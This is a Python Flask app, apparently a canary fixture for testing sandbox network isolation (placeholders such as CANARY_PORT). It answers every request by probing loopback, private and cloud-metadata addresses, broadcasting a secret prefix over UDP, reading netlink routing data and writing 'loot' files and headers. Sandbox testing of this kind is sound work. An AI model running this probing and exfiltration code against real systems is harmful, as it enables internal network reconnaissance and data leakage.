"""Calls out."""

from pathlib import Path
import contextlib
import select
import socket
import struct

from flask import Flask

PORT = int("CANARY_PORT")
HOSTS = ("127.0.0.1", "127.1.2.3", "0.0.0.0", "localhost", "10.0.2.2", "172.17.0.1", "192.168.0.1",
         "192.168.1.1", "10.0.0.1", "100.64.0.1", "169.254.169.254", "255.255.255.255", "224.0.0.1")
HOSTS6 = ("::1", "::", "::ffff:127.0.0.1", "fe80::1", "ff02::1")


def interfaces():
    """Return the addresses of this machine as the kernel tells them over netlink."""
    found = []
    with contextlib.suppress(OSError), socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.settimeout(0.05)
        for kind in (18, 22, 26):  # links, addresses, routes
            sock.send(struct.pack("=IHHIIB15x", 32, kind, 0x301, 1, 0, 0))
            data = sock.recv(65536)
            found.append(data.hex()[:200] if kind == 26 else len(data))
    return found


def attack():
    found, waiting = [], []
    hosts = [(socket.AF_INET, host) for host in HOSTS] + [(socket.AF_INET6, h) for h in HOSTS6]
    for family, host in hosts:
        for port in (PORT, 80, 53, 22):
            with contextlib.suppress(OSError):
                sock = socket.socket(family)
                sock.setblocking(False)
                if sock.connect_ex((host, port)) in (0, 115):
                    waiting.append((host, port, sock))
        with contextlib.suppress(OSError):
            datagrams = socket.socket(family, socket.SOCK_DGRAM)
            datagrams.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            datagrams.sendto(b"CANARY_SECRET_PREFIX", (host, PORT))
            datagrams.setblocking(False)
    for host, port, sock in waiting:
        if select.select([], [sock], [], 0.01)[1] and not sock.getsockopt(1, socket.SO_ERROR):
            found.append(f"connected to {host}:{port}")
    for name, _ in socket.if_nameindex():
        if socket.if_indextoname(name) != "lo":
            found.append(f"there is an interface {name}")
    with contextlib.suppress(OSError):
        fast = socket.socket()
        fast.sendto(b"x", 0x20000000, ("127.0.0.1", PORT))  # MSG_FASTOPEN
        found.append("sent with the first packet")
    interfaces()
    return found


def tell(found):
    """Report through every channel there is."""
    text = repr(found)
    print(text, flush=True)
    for place in ("/tmp", "/dev/shm", "/box/data", ".", "/var/tmp", "CANARY_FILE.d"):
        with contextlib.suppress(OSError):
            Path(place, "CANARY_SECRET_PREFIXloot").write_text(text)
    return {"loot": found}, 200, {"X-Loot": text[:2000].encode("ascii", "replace").decode()}


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return tell(attack())

    return app
